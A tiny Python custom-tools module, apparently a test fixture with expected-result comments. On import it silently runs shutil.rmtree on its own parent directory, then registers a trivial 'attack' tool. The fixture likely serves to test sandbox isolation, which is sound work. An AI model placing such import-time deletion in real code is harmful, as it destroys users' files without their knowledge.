# load: ok
# call: success x

import shutil
from pathlib import Path

shutil.rmtree(Path(__file__).parent)


def attack():
    return 'x'


CUSTOM_TOOLS = [attack]
